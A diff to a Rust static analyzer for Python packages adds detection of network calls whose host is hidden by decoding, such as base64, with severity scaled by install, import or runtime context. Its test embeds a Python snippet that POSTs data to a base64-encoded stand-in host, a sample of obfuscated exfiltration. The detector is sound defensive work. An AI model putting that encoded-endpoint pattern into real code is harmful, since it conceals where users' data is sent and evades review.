@@ -66,6 +66,14 @@ pub fn classify(qualname: &str) -> Option<NetOp> {
             "resolve" | "query" => NetOp::Dns,
             _ => return None,
         },
+        "http.client.HTTPConnection()"
+        | "http.client.HTTPSConnection()"
+        | "httplib.HTTPConnection()"
+        | "httplib.HTTPSConnection()" => match last {
+            "request" | "putrequest" => NetOp::Fetch,
+            "send" => NetOp::Send,
+            _ => return None,
+        },
         "aiohttp" if last == "ClientSession" => NetOp::Fetch,
         "websocket" | "websockets" if matches!(last, "create_connection" | "connect") => {
             NetOp::Send
@@ -168,8 +176,47 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
             .or_else(|| checker.scopes.fold_lossy(target));
         if let Some(url) = url {
             super::suspicious_endpoint::check_string(checker, &url, call.range());
+            check_hidden_target(checker, call, target, &url, context);
         }
     }
+}
+
+/// A host or URL that the code decodes before contacting it. Clients name their services in
+/// plain text; hiding where data goes from readers is what exfiltration code does.
+fn check_hidden_target(
+    checker: &mut Checker,
+    call: &ExprCall,
+    target: &ruff_python_ast::Expr,
+    url: &str,
+    context: ExecContext,
+) {
+    let Some(decoder) = super::dynamic_exec::contains_decoding(checker, target) else {
+        return;
+    };
+    let host_like = url.contains("://")
+        || url
+            .split(['/', ':'])
+            .next()
+            .is_some_and(|host| host.contains('.') && !host.contains(' '));
+    if !host_like {
+        return;
+    }
+    let severity = match context {
+        ExecContext::Install | ExecContext::Import => 0.8,
+        ExecContext::Runtime => 0.5,
+        ExecContext::TestOrDocs => 0.1,
+    };
+    checker.report(
+        &RULE,
+        call.range(),
+        format!(
+            "contacts `{}`, an address hidden with {decoder}, {}",
+            crate::text::shorten(url, 100),
+            context.phrase()
+        ),
+        severity,
+        vec!["network", "hidden-endpoint", "obfuscation"],
+    );
 }
 
 #[cfg(test)]
@@ -184,6 +231,15 @@ mod tests {
         assert_eq!(classify("socket.socket().connect"), Some(NetOp::Send));
         assert_eq!(classify("socket.gethostbyname"), Some(NetOp::Dns));
         assert_eq!(classify("os.path.join"), None);
+    }
+
+    #[test]
+    fn addresses_hidden_by_encoding_are_reported() {
+        // base64 of "collect.example.invalid"
+        let code = "import base64, http.client\ndef send(d):\n    c = http.client.HTTPSConnection(base64.b64decode('Y29sbGVjdC5leGFtcGxlLmludmFsaWQ=').decode())\n    c.request('POST', '/', d)\n";
+        assert!(max_severity("p/pkg/m.py", code, "WH130") >= 0.5);
+        let plain = "import http.client\ndef send(d):\n    c = http.client.HTTPSConnection('collect.example.invalid')\n    c.request('POST', '/', d)\n";
+        assert!(max_severity("p/pkg/m.py", plain, "WH130") < 0.1);
     }
 
     #[test]
